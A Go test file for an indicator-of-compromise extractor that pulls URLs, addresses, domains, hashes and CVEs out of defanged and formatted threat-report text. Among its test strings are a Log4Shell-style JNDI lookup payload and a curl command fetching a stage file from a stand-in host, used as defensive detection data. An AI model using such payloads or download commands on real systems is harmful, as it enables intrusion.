package ioc

import (
	"errors"
	"fmt"
	"io"
	"iter"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/threatconnect-go/threatconnect/internal/scaletest"
)

// values returns the type and value of each indicator in a text.
func values(t *testing.T, text string) []string {
	t.Helper()
	found := []string{}
	for _, m := range extractAll(t, text) {
		found = append(found, string(m.Type)+" "+m.Value)
	}
	return found
}

func TestExtractFinds(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"every type", "C2 http://a.example/x at 192.0.2.1 or 2001:db8::1, net 192.0.2.0/24 of AS64496, mail from a@b.example, CVE-2021-44228, host www.c.example, " +
			"d41d8cd98f00b204e9800998ecf8427e", []string{
			"URL http://a.example/x", "Address 192.0.2.1", "Address 2001:db8:0:0:0:0:0:1", "CIDR 192.0.2.0/24", "ASN ASN64496",
			"Vulnerability CVE-2021-44228", "File D41D8CD98F00B204E9800998ECF8427E"}},
		{"a defanged URL", "see hxxps://www[.]evil-site[.]com/a[.]php", []string{"URL https://www.evil-site.com/a.php"}},
		{"a URL with brackets in its path", "http://www.evil-site.com/a[.]b", []string{"URL http://www.evil-site.com/a[.]b"}},
		{"spaced marks", "user [at] evil-site [dot] com, evil-site [ . ] net", []string{"EmailAddress user@evil-site.com", "Host evil-site.net"}},
		{"half brackets", "evil-site[.com evil-site.]net evil].[evil-site.org", []string{"Host evil-site.com", "Host evil-site.net", "Host evil.evil-site.org"}},
		{"marks in Markdown", `evil-site\[.\]com evil\_site.com evil\-site.net`, []string{"Host evil-site.com", "Host evil_site.com", "Host evil-site.net"}},
		{"marks in HTML", "evil-site&#91;.&#93;com &lt;http://evil-site.com/?a=1&amp;b=2&gt;", []string{"Host evil-site.com", "URL http://evil-site.com/?a=1&b=2"}},
		{"escapes of JSON", `{"u":"http:\/\/evil-site.com\/a?b=1\u0026c=2","t":"to\nevil-site.net\tnow"}`, []string{"URL http://evil-site.com/a?b=1&c=2", "Host evil-site.net"}},
		{"an ideographic full stop", "evil-site。com", []string{"Host evil-site.com"}},
		{"markup", "**http://evil-site.com/**, `evil-site.com`, _evil-site.net_, ~~evil-site.org~~ <a href=\"http://evil-site.com/a\">", []string{
			"URL http://evil-site.com/", "Host evil-site.com", "Host evil-site.net", "Host evil-site.org", "URL http://evil-site.com/a"}},
		{"links", "[http://evil-site.com/a](http://evil-site.com/b) (http://evil-site.com/c_(d)). [x]: http://evil-site.com/e", []string{
			"URL http://evil-site.com/a", "URL http://evil-site.com/b", "URL http://evil-site.com/c_(d)", "URL http://evil-site.com/e"}},
		{"cells", "|http://evil-site.com/a|evil-site.com|\n\"http://evil-site.com/b,c\",1\nhttp://evil-site.com/d,1\nhttp://evil-site.com/e;x", []string{
			"URL http://evil-site.com/a", "Host evil-site.com", "URL http://evil-site.com/b,c", "URL http://evil-site.com/d", "URL http://evil-site.com/e"}},
		{"text without spaces", "攻击者使用evil-site.com和192.0.2.1。请访问http://evil-site.com/a下载", []string{"Host evil-site.com", "Address 192.0.2.1", "URL http://evil-site.com/a"}},
		{"other scripts", "домен пример.рф и „münchen.de“", []string{"Host xn--e1afmkfd.xn--p1ai", "Host xn--mnchen-3ya.de"}},
		{"ports and paths", "192.0.2.1:8080, [2001:db8::1]:443, evil-site.com:81/x, evil-site.net/login?e=a@b.com", []string{
			"Address 192.0.2.1", "Address 2001:db8:0:0:0:0:0:1", "Host evil-site.com", "Host evil-site.net"}},
		{"a block with bits after its length", "192.0.2.1/24", []string{"Address 192.0.2.1"}},
		{"two addresses", "192.0.2.1/192.0.2.2 192.0.2.3-192.0.2.4", []string{"Address 192.0.2.1", "Address 192.0.2.2", "Address 192.0.2.3", "Address 192.0.2.4"}},
		{"other schemes", "tcp://192.0.2.1:443 ${jndi:ldap://192.0.2.2:1389/a} xhttp://evil-site.com/", []string{"Address 192.0.2.1", "Address 192.0.2.2", "URL http://evil-site.com/"}},
		{"a cut URL", "http://evil-site.com/abc... http://evil-site.net/abc[...] http://192.0.2.1/a… http://[2001:db8::1]:80/a... http://evil.example/…", []string{
			"Host evil-site.com", "Host evil-site.net", "Address 192.0.2.1", "Address 2001:db8:0:0:0:0:0:1", "Host evil.example"}},
		{"a sentence without a space", "on www.evil-site.com.The next", []string{"Host www.evil-site.com"}},
		{"invalid ports and lengths", "198.51.100.0/24/5 198.51.100.1:70000 evil-site.com:70000 198.51.100.7^ 198.51.100.7.", []string{
			"Address 198.51.100.0", "Address 198.51.100.1", "Host evil-site.com", "Address 198.51.100.7", "Address 198.51.100.7"}},
		{"IPv6", "[2001:db8::1], 2001:db8::2. ::1 2001:db8::/32 2001:db8::3/32", []string{
			"Address 2001:db8:0:0:0:0:0:1", "Address 2001:db8:0:0:0:0:0:2", "Address 0:0:0:0:0:0:0:1", "CIDR 2001:db8:0:0:0:0:0:0/32", "Address 2001:db8:0:0:0:0:0:3"}},
		{"a loopback address is not a version", "version 127.0.0.1", []string{"Address 127.0.0.1"}},
		{"other full stops", "evil｡com evil-site．com", []string{"Host evil.com", "Host evil-site.com"}},
		{"a name that was defanged before", "evil[.]me was seen; evil.me is back", []string{"Host evil.me", "Host evil.me"}},
		{"a host and its address", "evil-site.com=192.0.2.1", []string{"Host evil-site.com", "Address 192.0.2.1"}},
		{"emphasis", "~~evil-site.com~~ ~evil-site.net", []string{"Host evil-site.com", "Host evil-site.net"}},
		{"email addresses", `user.name+tag@evil-site.com, <mailto:a@evil-site.com>, "a b"@evil-site.com`, []string{"EmailAddress user.name+tag@evil-site.com", "EmailAddress a@evil-site.com"}},
		{"ASNs", "AS64496 ASN64497 ASN 64498 ASN: 64499 AS 64500", []string{"ASN ASN64496", "ASN ASN64497", "ASN ASN64498", "ASN ASN64499", "ASN ASN64500"}},
		{"typographic hyphens", "CVE\u20112021\u201144228", []string{"Vulnerability CVE-2021-44228"}},
		{"wildcards", "*.evil-site.com .evil-site.net", []string{"Host evil-site.com", "Host evil-site.net"}},
		{"names of files that are defanged or called domains", "update[.]zip, the domain invoice.zip", []string{"Host update.zip", "Host invoice.zip"}},
		{"an onion address", "abcdefghij[.]onion", []string{"Host abcdefghij.onion"}},
		{"the name of a file that is a hash", "d41d8cd98f00b204e9800998ecf8427e.exe VirusShare_d41d8cd98f00b204e9800998ecf8427e", []string{
			"File D41D8CD98F00B204E9800998ECF8427E", "File D41D8CD98F00B204E9800998ECF8427E"}},
		{"a file of MISP", "invoice.com|d41d8cd98f00b204e9800998ecf8427e", []string{"File D41D8CD98F00B204E9800998ECF8427E"}},
		{"Java", "db.evil-site.net/192.0.2.1:5432", []string{"Host db.evil-site.net", "Address 192.0.2.1"}},
		{"a list of hosts", "evil-a.com\nevil-b.net\n* evil-c.org\nevil.pl\nevil.app\n", []string{
			"Host evil-a.com", "Host evil-b.net", "Host evil-c.org", "Host evil.pl", "Host evil.app"}},
		{"a host in a field", "[domain-name:value='evil.pl'] {\"domain\": \"evil.app\"}", []string{"Host evil.pl", "Host evil.app"}},
		{"a list in a section of hosts", "### C2 domains\n\n- evil.sh\n* `evil.zip`\n", []string{"Host evil.sh", "Host evil.zip"}},
		{"a domain that is also part of other indicators", "evil.me is at hxxps://a.evil.me/x, so evil.me is no file; mail to a@evil.sh from evil.sh", []string{
			"URL https://a.evil.me/x", "Host evil.me", "EmailAddress a@evil.sh", "Host evil.sh"}},
		{"a path at the start of a line", "> evil.network/bin.exe\n", []string{"Host evil.network"}},
		{"a subdomain with a hyphen", "the xmail-verfo.evil.me of a letter", []string{"Host xmail-verfo.evil.me"}},
		{"a URL with a placeholder", "https://api.evil-site.org/bot<TOKEN>/send http://192.0.2.1:443/login/<chacha20_path> http://evil-site.com/a<br>", []string{
			"Host api.evil-site.org", "Address 192.0.2.1", "URL http://evil-site.com/a"}},
		{"a URL in front of an element", "http://evil-site.com/a<details>http://evil-site.com/b<section>", []string{"URL http://evil-site.com/a", "URL http://evil-site.com/b"}},
		{"a code block of one line", "```curl http://evil-site.com```\n```go\n// the site evil.app\n```\nthe site vile.app", []string{"URL http://evil-site.com", "Host vile.app"}},
		{"arguments of commands", "`dig @ns1.evil.name k1.evil.rs`, `curl -so stage.zip evil.link/d/stage.zip`; ping -n 1 evil.watch", []string{
			"Host ns1.evil.name", "Host k1.evil.rs", "Host evil.link", "Host evil.watch"}},
		{"a row that states its type", "| Value | Kind |\n|---|---|\n| evil.sh | domain |\n| `evil.link` | file name |\n", []string{"Host evil.sh"}},
		{"a cell after a quoted cell with commas", "name,md5,imphash\n\"a, b\",d41d8cd98f00b204e9800998ecf8427e,x\n", []string{"File D41D8CD98F00B204E9800998ECF8427E"}},
		{"a scheme with a prefix", "git+https://evil-site.com/a", []string{"URL https://evil-site.com/a"}},
		{"a port", "logs.penstock.me:6514 is down", []string{"Host logs.penstock.me"}},
		{"user information", "root@192.0.2.1 http://user:pass@evil-site.com/", []string{"Address 192.0.2.1", "URL http://evil-site.com/"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tc.want, values(t, tc.text))
		})
	}
}

func TestExtractLeavesOut(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, text string }{
		{"versions", "version 3.4.5.6, v3.4.5.6, Chrome/91.0.4.1, foo==3.4.5.6, KittyPanel 4.1.0.2, fixed in 7.1.2.3, 9.8.7.6 and later"},
		{"a version that was called one before", "Version 10.1.2.3 is out. It was 10.1.2.3 before."},
		{"sections", "§ 3.1.2.4, section 3.1.2.5, ch. 7.2.3.1\n\n## 2.1.3.4 Results\n"},
		{"object identifiers", "1.3.6.1 1.3.6.1.4.1.311.2"},
		{"names of files", "setup.sh README.md libc.so notes.zip run.py build.rs main.cc invoice.pdf.com MANIFEST.in"},
		{"sections of versions, keys and files", "#### Versions\n- 4.5.4.1\n#### RC4 keys\n- d41d8cd98f00b204e9800998ecf8427e\n## Files\n- `evil.link`\n"},
		{"a list of files", "a.exe\nb.dll\nevil.pl\nevil.sh\nc.txt\n"},
		{"paths", `/opt/evil.app/run C:\Users\evil.com \evil.com ./a.sh lib/evil.com`},
		{"detections", "Trojan.Agent.bt Win32/Agent.AI Agent.BT Backdoor.Linux.Mirai.ba"},
		{"source code", "System.IO os.name this.run app.run() com.example.app java.net java.net.* x = a.name\nreturn e.target\nstd::string a::b R.id.host"},
		{"abbreviations", "e.g. i.e. U.S. a.m. z.B. d.h."},
		{"a sentence without a space", "the end.In this"},
		{"other hashes", "imphash: d41d8cd98f00b204e9800998ecf8427e, JA3 d41d8cd98f00b204e9800998ecf8427e; commit da39a3ee5e6b4b0d3255bfef95601890afd80709, " +
			"thumbprint da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"other hexadecimal", "550e8400-e29b-41d4-a716-446655440000 d41d8cd98f00b204e9800998ecf8427ed 0xd41d8cd98f00b204e9800998ecf8427e 00:1a:2b:3c:4d:5e " +
			"00:1a:2b:ff:fe:3c:4d:5e 12:34:56 00000000000000000000000000000000 12345678901234567890123456789012"},
		{"encoded data, boundaries and longer IDs", "x+d41d8cd98f00b204e9800998ecf8427e d41d8cd98f00b204e9800998ecf8427e+x d41d8cd98f00b204e9800998ecf8427e== --d41d8cd98f00b204e9800998ecf8427e " +
			"id-d41d8cd98f00b204e9800998ecf8427e-1 BuildID[sha1]=da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{"an account and a method", `the account evil.com\user calls load(x).evil.com`},
		{"a column of other hashes", "| Imphash |\n|---|\n| d41d8cd98f00b204e9800998ecf8427e |\n"},
		{"a dump", "The blob:\n\n" + strings.Repeat("d41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e\n", 3) + "d41d8c\n"},
		{"armor", "-----BEGIN PGP SIGNATURE-----\nVersion: 192.0.2.1\nComment: https://www.example.com\n\niQEzBAEB\n-----END PGP SIGNATURE-----\n"},
		{"public suffixes", "co.uk .co.uk com.br"},
		{"suffixes that are not public", "evil.example evil.local www.evil.nosuch"},
		{"addresses with zones", "fe80::1%eth0 fe80::2%25x"},
		{"longer IDs", "CVE-2021-44228a aCVE-2021-44228 AS400 BAS 64496 AS64496x as 64500"},
		{"parts of words", `x198.51.100.7 198.51.100.7x _198.51.100.7 -198.51.100.7 1-198.51.100.7 1.2.3.4.5 \198.51.100.7 >=198.51.100.7 a::b`},
		{"a user", "evil-site.com:alice"},
		{"assignments", "evil-site.com=5 evil-site.com=1&x evil-site.com=x evil-site.com == 1"},
		{"a network address without context", "1.2.3.0"},
		{"halves of marks", "a].b a[.]b [.]b ]. [."},
		{"a remote repository", "git@github.com:owner/repository.git"},
		{"an empty value", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			assert.Empty(t, values(t, tc.text))
		})
	}
}

// A name after a hash is a file name, for example in the output of sha256sum.
func TestExtractRecognizesFileNamesAfterHashes(t *testing.T) {
	t.Parallel()
	assert.Equal(t, []string{"File D41D8CD98F00B204E9800998ECF8427E", "Host evil-site.net"}, values(t, "d41d8cd98f00b204e9800998ecf8427e  evil-site.net"))
	assert.Equal(t, []string{"File D41D8CD98F00B204E9800998ECF8427E"}, values(t, "# Modules of the C2\nd41d8cd98f00b204e9800998ecf8427e  module.py\nmodule.py"))
}

// A heading applies to the text below it, also in the next window, but not to the next section.
func TestExtractUsesSectionHeadings(t *testing.T) {
	t.Parallel()
	text := "## Domains\n" + strings.Repeat("nothing\n", windowSize/4) + "evil.zip\n## More\nevil.zip\n"
	assert.Equal(t, []string{"Host evil.zip"}, values(t, text))
	table := "name,imphash,size\n" + strings.Repeat("a,d41d8cd98f00b204e9800998ecf8427e,1\n", windowSize/16)
	assert.Empty(t, values(t, table), "a table header also applies")
	quoted := "name,imphash,size\n" + strings.Repeat("a,d41d8cd98f00b204e9800998ecf8427e,1\n\"a\",\"d41d8cd98f00b204e9800998ecf8427e\",\"1\"\n", windowSize/8)
	assert.Empty(t, values(t, quoted), "quotes apply only to their line")
	assert.Equal(t, []string{"Address 10.2.3.4"}, values(t, "## Versions of servers\n- 10.2.3.4\n"), "an ambiguous heading has no meaning")
	assert.Equal(t, []string{"File D41D8CD98F00B204E9800998ECF8427E"}, values(t, "## Key findings\n- d41d8cd98f00b204e9800998ecf8427e\n"))
}

func TestExtractReportsPositionAndDefanging(t *testing.T) {
	t.Parallel()
	text := "one\nhxxp://evil[.]com/a[.]b and\n\n evil&#46;com:443 x [dot] evil-site [dot] com."
	found := extractAll(t, text)
	require.Len(t, found, 3)
	assert.Equal(t, Match{Indicator: Indicator{Type: TypeURL, Value: "http://evil.com/a.b", Defanged: true}, Offset: 4, Length: 23, Line: 2}, found[0])
	assert.Equal(t, Match{Indicator: Indicator{Type: TypeHost, Value: "evil.com", Port: 443}, Offset: 34, Length: 12, Line: 4}, found[1])
	assert.Equal(t, "x [dot] evil-site [dot] com", text[found[2].Offset:found[2].Offset+int64(found[2].Length)])
	assert.True(t, found[2].Defanged)
	for text, want := range map[string]bool{
		"hxxp://evil.com/a[.]b": true, "http://evil[.]com/a": true, "http://evil.com/a": false, "http://evil.com/a[.]b": false, "evil[.]com": true, "evil.com": false,
		"198[.]51.100.7": true, "198.51.100.7": false, "a[at]evil.com": true, "a@evil.com": false,
	} {
		found := extractAll(t, text)
		require.Len(t, found, 1, text)
		assert.Equal(t, want, found[0].Defanged, text)
		parsed, err := Parse(text)
		require.NoError(t, err)
		assert.Equal(t, parsed, found[0].Indicator)
	}
}

func TestExtractWithParserOptions(t *testing.T) {
	t.Parallel()
	text := "www[.]evil-site[.]com/login, 192.0.2.1:81/a[.]b, evil-site.net, 192.0.2.1/24, http://evil-site.com/{x}, a_b.evil-site.com"
	found := func(p *Parser) (all []Indicator) {
		for m, err := range p.Extract(strings.NewReader(text)) {
			require.NoError(t, err)
			all = append(all, m.Indicator)
		}
		return all
	}
	assert.Equal(t, []Indicator{
		{Type: TypeHost, Value: "www.evil-site.com", Defanged: true}, {Type: TypeAddress, Value: "192.0.2.1", Port: 81}, {Type: TypeHost, Value: "evil-site.net"},
		{Type: TypeAddress, Value: "192.0.2.1"}, {Type: TypeURL, Value: "http://evil-site.com/{x}"}, {Type: TypeHost, Value: "a_b.evil-site.com"},
	}, found(nil))
	assert.Equal(t, []Indicator{
		{Type: TypeURL, Value: "https://www.evil-site.com/login", Defanged: true, AssumedScheme: true},
		{Type: TypeURL, Value: "https://192.0.2.1:81/a[.]b", AssumedScheme: true}, {Type: TypeHost, Value: "evil-site.net"},
		{Type: TypeCIDR, Value: "192.0.2.0/24", Address: "192.0.2.1"}, {Type: TypeURL, Value: "http://evil-site.com/{x}"}, {Type: TypeHost, Value: "a_b.evil-site.com"},
	}, found(&Parser{AssumeScheme: "https", MaskBlock: true}))
	assert.Equal(t, []Indicator{
		{Type: TypeHost, Value: "www.evil-site.com", Defanged: true}, {Type: TypeAddress, Value: "192.0.2.1", Port: 81},
		{Type: TypeAddress, Value: "192.0.2.1"},
	}, found(&Parser{Strict: true, Patterns: map[Type][]*regexp.Regexp{TypeHost: {regexp.MustCompile(`www\..*`)}}}))
}

// A window ends after a line, a word or a cell, so the positions of indicators make no difference.
func TestExtractReadsLongTexts(t *testing.T) {
	t.Parallel()
	windows := scaletest.Short(2, 4)
	for _, separator := range []string{"\n", " ", ",", "\"", "\r\n"} {
		for shift := range 3 {
			var b strings.Builder
			b.WriteString(strings.Repeat("x", shift) + separator)
			want := 0
			for b.Len() < windows*windowSize {
				fmt.Fprintf(&b, "192.0.2.%d%swww.evil-site%d.com%s", want%256, separator, want, separator)
				want++
			}
			text := b.String()
			hosts, addresses := 0, 0
			line, counted := 1, int64(0) // line is that of the offset counted
			for _, m := range extractAll(t, text) {
				written := text[m.Offset : m.Offset+int64(m.Length)]
				value := fmt.Sprintf("192.0.2.%d", addresses%256)
				if m.Type == TypeHost {
					value = fmt.Sprintf("www.evil-site%d.com", hosts)
					hosts++
				} else {
					addresses++
				}
				line, counted = line+strings.Count(text[counted:m.Offset], "\n"), m.Offset
				if m.Value != written || m.Value != value || m.Line != line {
					require.Equal(t, []any{value, value, line}, []any{m.Value, written, m.Line})
				}
			}
			assert.Equal(t, want, hosts, "separator %q", separator)
			assert.Equal(t, want, addresses, "separator %q", separator)
		}
	}
}

// A run longer than a window is skipped, and the text around it is scanned.
func TestExtractSkipsLongRuns(t *testing.T) {
	t.Parallel()
	run := strings.Repeat("QUJD", windowSize)
	assert.Equal(t, []string{"Address 192.0.2.1", "Address 192.0.2.2"}, values(t, "192.0.2.1 "+run+"http://evil-site.com/ 192.0.2.2"))
}

func TestExtractReturnsErrorsOfTheReader(t *testing.T) {
	t.Parallel()
	failed := errors.New("failed")
	var found []string
	var last error
	for m, err := range Extract(io.MultiReader(strings.NewReader("192.0.2.1 and"), iotest.ErrReader(failed))) {
		if err != nil {
			last = err
			continue
		}
		found = append(found, m.Value)
	}
	assert.Equal(t, []string{"192.0.2.1"}, found)
	assert.ErrorIs(t, last, failed)

	onlyError := func(matches iter.Seq2[Match, error]) error {
		var all []error
		for m, err := range matches {
			assert.Zero(t, m)
			all = append(all, err)
		}
		require.Len(t, all, 1)
		return all[0]
	}
	assert.ErrorContains(t, onlyError(Extract(nil)), "text has no reader")
	for _, utf16 := range []string{"\xff\xfea\x00", "\xfe\xff\x00a"} {
		assert.ErrorContains(t, onlyError(Extract(strings.NewReader(utf16))), "text is in UTF-16; convert it to UTF-8")
	}
	assert.ErrorIs(t, onlyError(Extract(iotest.TimeoutReader(iotest.OneByteReader(strings.NewReader("192.0.2.1"))))), iotest.ErrTimeout)
	assert.ErrorContains(t, onlyError((&Parser{AssumeScheme: "gopher"}).Extract(strings.NewReader(""))), "scheme to assume is not http, https, ftp or sftp")
	assert.ErrorIs(t, onlyError(Extract(idleReader{})), io.ErrNoProgress)
}

// idleReader returns neither bytes nor errors.
type idleReader struct{}

func (idleReader) Read([]byte) (int, error) { return 0, nil }

func TestExtractStopsWithTheLoop(t *testing.T) {
	t.Parallel()
	for range Extract(strings.NewReader(strings.Repeat("192.0.2.1\n", 10))) {
		break
	}
}

// Extract keeps one window and a limited number of names in memory, regardless of the length of the text.
func TestExtractMemoryDoesNotGrow(t *testing.T) {
	const most = 2 << 20
	size := scaletest.Short(int64(2*most), 4*most)
	heap := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before, highest, found := heap(), uint64(0), 0
	line := "The host www.evil-site.com is no address. Version 10.1.2.3 of it is one.\n"
	for _, err := range Extract(io.LimitReader(&repeated{text: line}, size)) {
		require.NoError(t, err)
		if found++; found%10000 == 0 {
			highest = max(highest, heap())
		}
	}
	assert.Greater(t, found, int(size/80))
	assert.Less(t, highest, before+most)
}

// repeated is an endless text of one line.
type repeated struct {
	text string
	at   int
}

func (r *repeated) Read(p []byte) (int, error) {
	n := copy(p, r.text[r.at:])
	r.at = (r.at + n) % len(r.text)
	return n, nil
}
